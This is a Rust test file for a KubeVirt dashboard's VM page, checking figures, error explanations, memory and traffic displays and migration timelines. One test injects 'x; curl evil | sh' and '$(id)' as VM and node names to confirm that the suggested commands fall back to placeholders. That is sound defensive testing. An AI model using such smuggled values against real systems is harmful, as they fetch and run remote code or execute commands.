//! One VM's page.

use super::*;
use model::{
    activity::{GuestActivity, MemoryUse, Origin},
    figure::{Missing, Source},
    pressure::{Pressure, PressureSample, Stall, WINDOW_MS},
    vm::Status,
};

#[test]
fn a_vm_page_shows_figures_volumes_networks_and_commands() {
    let page = render("/vms/payments/db-postgres-0", snapshot(sample::vms(), sample::sources()));
    let text = page.text();
    assert_eq!(page.status, 200);
    for expected in [
        "25.7 % 2.06 of 8 vCPU",
        "metrics.k8s.io, 15 s window , sampled 14 s ago",
        "· 3 of 4 volumes",
        "2026-03-04 09:12 UTC",
        "virt-launcher-db-postgres-0-vm-x7k2p",
        "Volume data : a block volume",
        "install qemu-guest-agent",
        "kubectl -n payments top pod virt-launcher-db-postgres-0-vm-x7k2p --containers",
        "02:8e:4f:11:0c:7a",
        "longhorn-2r",
    ] {
        assert!(text.contains(expected), "{expected} is not in {text}");
    }
}

#[test]
fn a_name_that_is_mistyped_leads_to_those_that_are_close() {
    let page = render("/vms/shop/db-postgres-00", snapshot(sample::vms(), sample::sources()));
    assert_eq!(page.status, 404);
    assert!(page.text().contains("VMs with a similar name: db-postgres-0 payments"), "{}", page.text());
    assert!(page.html.contains("href=\"/vms/payments/db-postgres-0\""));
    let far = render("/vms/shop/nothing-like-it", snapshot(sample::vms(), sample::sources()));
    assert!(!far.text().contains("similar"), "{}", far.text());
}

#[test]
fn a_vm_in_error_says_why_and_how_to_check() {
    let all = || snapshot(sample::vms(), sample::sources());
    let card = render("/?q=gpu", all());
    assert!(card.card("ci/gpu-trainer").contains("href=\"/vms/ci/gpu-trainer#why\""));
    let text = text(render("/vms/ci/gpu-trainer", all()).part("id=\"why\"", "</section>"));
    assert!(text.contains("CPU, memory, disk : not running."), "{text}");
    assert!(
        text.contains("4 Insufficient nvidia.com/gpu.") && text.contains("kubectl -n ci describe"),
        "{text}"
    );
    let stopped = render("/vms/shop/frontend-canary", all());
    assert!(!stopped.html.contains("id=\"why\""), "a stopped VM needs no fix");
}

#[test]
fn a_conflict_between_objects_is_escaped_text() {
    let mut vms = sample::vms();
    vms[0].conflict = Some(Box::new("names as its owner the Wukong <b>".into()));
    let page = render("/vms/payments/api-gateway-01", snapshot(vms, sample::sources()));
    assert!(page.html.contains("names as its owner the Wukong &lt;b&gt;"), "{}", page.html);
}

#[test]
fn commands_contain_only_valid_names() {
    let mut vms = sample::vms();
    vms[0].vm_name = "x; curl evil | sh".into();
    vms[0].summary.node = "$(id)".into();
    let text = render("/vms/payments/api-gateway-01", snapshot(vms, sample::sources())).text();
    assert!(text.contains("get virtualmachineinstance NAME -o yaml"), "{text}");
    assert!(text.contains("/api/v1/nodes/NODE/proxy"), "{text}");
}

#[test]
fn a_paused_guest_says_why_and_how_to_fix_it() {
    let mut vms = sample::vms();
    let (message, fix) = ("VMI was paused, IO error", "Look at its disks: kubectl -n a describe vmi b");
    vms[0].summary.kubevirt_status = "Paused".into();
    vms[0].summary.fault = Some(Box::new(message.into()));
    let (reason, detail, fix) = (Reason::Paused, message.into(), fix.into());
    vms[0].failure = Some(Box::new(Missing { detail, fix, ..Missing::from(reason) }));
    for url in ["/", "/vms/payments/api-gateway-01"] {
        let text = render(url, snapshot(vms.clone(), sample::sources())).text();
        assert!(text.contains("KubeVirt has paused the guest: VMI was paused, IO error."), "{url}: {text}");
        assert!(!text.contains("KubeVirt status: Paused"), "it is said once: {text}");
    }
    let text = render("/vms/payments/api-gateway-01", snapshot(vms, sample::sources())).text();
    assert!(
        text.contains("Why is it paused?") && text.contains("Guest : paused because of an error."),
        "{text}"
    );
    assert!(text.contains("kubectl -n a describe vmi b"), "{text}");
}

#[test]
fn a_stopped_vm_says_why_its_size_is_unknown() {
    let mut vms = sample::vms();
    let vm = vms.iter_mut().find(|vm| vm.summary.status == Status::Stopped).unwrap();
    (vm.summary.cpu, vm.summary.memory) = (None, None);
    let detail = "its instance type u1 cannot be read".into();
    vm.allocation_gap = Some(Box::new(Missing { detail, ..Missing::from(Reason::NoAllocation) }));
    let url = format!("/vms/{}/{}", vm.summary.namespace, vm.summary.name);
    let text = render(&url, snapshot(vms, sample::sources())).text();
    assert!(text.contains("vCPU, memory : its allocation cannot be read."), "{text}");
    assert!(text.contains("its instance type u1 cannot be read"), "{text}");
}

#[test]
fn a_nearly_full_guest_file_system_is_highlighted() {
    let mut vms = sample::vms();
    let fs = |mount_point: &str, used, total| model::vm::GuestFilesystem {
        mount_point: mount_point.into(),
        used,
        total,
        ..Default::default()
    };
    vms[0].guest.filesystems = [
        fs("/", Some(86 << 30), Some(100 << 30)),
        fs("/boot", Some(95 << 30), Some(100 << 30)),
        fs("/srv", Some(1 << 30), Some(100 << 30)),
        fs("/x", None, None),
    ]
    .into();
    vms[0].guest.at = Some(NOW);
    vms[0].guest.filesystems_left_out = 7;
    let page = render("/vms/payments/api-gateway-01", snapshot(vms, sample::sources()));
    let (hot, normal) = (page.part(">/<", "</tr>"), page.part(">/srv<", "</tr>"));
    assert!(hot.contains("num hot") && text(hot).contains("86 / 100 Gi 86 %"), "{hot}");
    assert!(page.part(">/boot<", "</tr>").contains("num crit"), "{}", page.html);
    assert!(
        text(verdict(&page)).starts_with("Critical: /boot is 95 % full. Free space"),
        "{}",
        verdict(&page)
    );
    assert!(!normal.contains("hot") && text(normal).contains("1 / 100 Gi 1 %"), "{normal}");
    assert!(!text(page.part(">/x<", "</tr>")).contains('%'));
    assert!(page.text().contains("7 more file systems are not listed. They are counted."), "{}", page.text());
}

#[test]
fn an_expired_figure_keeps_its_last_value_and_age() {
    let page = render("/vms/legacy/frozen-erp", snapshot(sample::vms(), sample::sources()));
    let text = page.text();
    assert!(text.contains("Unknown: the last sample is too old."), "{text}");
    assert!(text.contains("Last known: 7.00 of 8 Gi, 87 %, 6 min ago."), "{text}");
}

/// The first of the VMs, whose host counts 106 % of its memory, with this activity.
fn page_with(change: impl Fn(&mut GuestActivity)) -> Page {
    let mut activity = sample::activity();
    change(&mut activity);
    let mut vms = sample::vms();
    vms[0].summary.usage.memory = sample::memory(848, 8);
    vms[0] = sample::active(vms[0].clone(), activity);
    render("/vms/payments/api-gateway-01", snapshot(vms, sample::sources()))
}

fn verdict(page: &Page) -> &str {
    page.part("class=\"verdict", "</section>")
}

fn assert_shows(page: &Page, wanted: &[&str]) {
    let text = page.text();
    wanted.iter().for_each(|wanted| assert!(text.contains(wanted), "{wanted} is not in {text}"));
}

#[test]
fn the_guest_s_memory_stands_beside_the_host_s_and_decides() {
    let page = page_with(|_| {});
    assert_eq!(text(verdict(&page)), "Nothing needs attention. Unknown: Traffic of fast. Why?");
    assert_shows(
        &page,
        &[
            "56.2 % in the guest 4.50 of 8 Gi",
            "105.9 % on the host 8.48 of 8 Gi",
            "The host counts what the guest once touched",
            "virt-handler , sampled 38 s ago",
        ],
    );
    assert!(!page.text().contains("launcher pod's overhead"), "{}", page.text());
    let memory = page.part("aria-label=\"Memory on the host\"", ">");
    assert!(memory.ends_with("class=\"gauge\""), "not red: {memory}");
    let full = page_with(|of| of.memory = Ok(MemoryUse { used: 96, total: 100 }));
    assert!(verdict(&full).starts_with("class=\"verdict crit\""), "{}", verdict(&full));
    assert!(text(verdict(&full)).contains("The guest uses 96 % of its memory. Give the VM more memory"));
}

#[test]
fn a_vm_page_shows_traffic_with_source_age_and_window() {
    let page = page_with(|_| {});
    assert_shows(
        &page,
        &[
            "Contention (steal) 0.6 %",
            "Swap in, out 0 B/s, 1.2 kB/s",
            "Major page faults 0.2 /s",
            "18.4 MB/s Network 41.6 MB/s Disk I/O",
            "Network in, out 6.1 MB/s, 12.3 MB/s",
            "Disk read, write 12.4 MB/s, 29.2 MB/s",
            "IOPS read, write 400, 840",
            "Latency read, write 1.9 ms, 4.7 ms",
            "virt-handler, 60 s window , sampled 38 s ago",
            "default masquerade eth0 10.244.1.23 02:8e:4f:11:0c:7a 6.1 MB/s 12.3 MB/s 0, 0 2, 0",
            "rootdisk api-gateway-01-root 12.4 MB/s 29.2 MB/s 400, 840 1.9 ms, 4.7 ms",
            "Operating system Debian 13.2 Kernel 6.12 Host name api-gateway",
            "LiveMigratable False DisksNotLiveMigratable PVC is not shared 2 h",
            "Traffic of fast : not reported. SR-IOV passes",
        ],
    );
    let old = page_with(|of| (of.stale, of.at) = (true, NOW - 200_000));
    assert_shows(&old, &["virt-handler, 60 s window , sampled 3 min old"]);
}

#[test]
fn the_network_of_another_source_says_so_and_what_it_does_not_count() {
    let page = page_with(|of| {
        of.network.as_mut().unwrap().uncounted = 1;
        let source = Source::KubeletProxy;
        of.network_from = Some(Origin { source, at: NOW - 12_000, window_ms: 45_000, stale: false });
    });
    assert_shows(
        &page,
        &[
            "The host does not see the traffic of SR-IOV interfaces, and this VM has some (1)",
            "virt-handler, 60 s window , sampled 38 s ago",
            "Network kubelet, 45 s window , sampled 12 s ago",
        ],
    );
    let whole = page_with(|_| {});
    assert!(!whole.text().contains("The host does not see the traffic of SR-IOV interfaces"));
}

#[test]
fn pressure_stands_beside_contention_and_is_no_part_of_the_verdict() {
    let page = |pressure| {
        let mut vms = sample::vms();
        vms[0] = sample::active(Vm { pressure, ..vms[0].clone() }, sample::activity());
        render("/vms/payments/api-gateway-01", snapshot(vms, sample::sources()))
    };
    let stall = |some| Some(Stall { some, full: 0 });
    let pressure = Pressure { cpu: stall(12_400), memory: stall(0), io: stall(1_500) };
    let origin = Origin { source: Source::KubeletProxy, at: NOW, window_ms: WINDOW_MS, stale: false };
    let known = page(Ok(PressureSample { pressure, origin }));
    assert_shows(&known, &["Pressure (PSI), 1 min CPU 12.4 %, memory 0.0 %, I/O 1.5 %"]);
    let unknown =
        page(Err(Box::new(Missing { fix: "Upgrade.".into(), ..Missing::from(Reason::NotReported) })));
    assert_shows(&unknown, &["Pressure (PSI), 1 min — Unknown: not reported"]);
    let why = text(unknown.part("id=\"why\"", "</section>"));
    assert!(why.contains("Pressure (PSI), 1 min : not reported. How to fix it Upgrade."), "{why}");
    assert!(!text(verdict(&unknown)).contains("Pressure"), "{}", verdict(&unknown));
}

#[test]
fn a_vm_that_waits_for_cpu_says_who_uses_it() {
    let page = page_with(|of| of.contention = Ok(23_400));
    let text = text(verdict(&page));
    assert!(verdict(&page).contains("verdict crit") && text.starts_with("Critical: "), "{text}");
    assert!(
        text.contains("wait 23.4 % of the time for a CPU of node-a: other VMs use them. Migrate"),
        "{text}"
    );
}

#[test]
fn what_is_not_known_of_a_guest_is_a_dash_with_its_reason_and_fix() {
    let missing = |reason: Reason| Box::new(Missing { fix: "Wait.".into(), ..Missing::from(reason) });
    let page = page_with(|of| {
        of.network = Err(missing(Reason::FirstSample));
        of.swap = Err(missing(Reason::NotReported));
    });
    assert!(
        text(verdict(&page)).contains("Unknown: Swap in, out, network, traffic of fast. Why?"),
        "{}",
        verdict(&page)
    );
    assert_shows(&page, &["Swap in, out — Unknown: not reported", "Network in, out — Unknown: first sample"]);
    let why = text(page.part("id=\"why\"", "</section>"));
    assert!(why.contains("Network : first sample: a rate needs two. How to fix it Wait."), "{why}");
    let nothing = render("/vms/payments/api-gateway-01", snapshot(sample::vms(), sample::sources()));
    assert_shows(
        &nothing,
        &["Traffic Unknown: no answer yet. How to fix it", "Guest memory — Unknown: no answer yet"],
    );
    assert!(!nothing.text().contains("0 B/s"), "missing is never zero");
}

#[test]
fn a_vm_that_is_off_has_a_verdict_and_no_activity() {
    let page = render("/vms/shop/frontend-canary", snapshot(sample::vms(), sample::sources()));
    assert_eq!(text(verdict(&page)), "The VM is stopped. Nothing is measured.");
    assert!(!page.text().contains("Traffic") && !page.text().contains("Contention"), "{}", page.text());
    let broken = render("/vms/ci/gpu-trainer", snapshot(sample::vms(), sample::sources()));
    let said = text(verdict(&broken));
    assert!(
        said.contains("The VM does not run. KubeVirt says: 0/4 nodes are available")
            && said.contains("How to fix it")
    );
}

#[test]
fn a_timeline_without_events_has_the_migrations() {
    let mut vms = sample::vms();
    let failed = model::details::Migration {
        name: "evacuation-x7".into(),
        phase: "Failed".into(),
        source_node: "worker-01".into(),
        target_node: "worker-02".into(),
        created: NOW - 300_000,
        started: Some(NOW - 290_000),
        ended: Some(NOW - 200_000),
        failure: "the target <pod> is gone".into(),
    };
    vms[0].migrations = vec![Arc::new(failed)];
    let page = render("/vms/payments/api-gateway-01", snapshot(vms, sample::sources()));
    let section = page.part("id=\"timeline\"", "</ol>");
    assert!(section.contains("class=\"warn\""), "{section}");
    let shown = text(section);
    assert!(shown.contains("The migration from worker-01 to worker-02 failed after 90 s"), "{shown}");
    assert!(shown.contains("evacuation-x7 · the target &lt;pod&gt; is gone"), "{shown}");
    assert!(shown.contains("the events of this VM are being read"), "{shown}");
    assert!(!page.html.contains("No event, migration or start is known."));
}
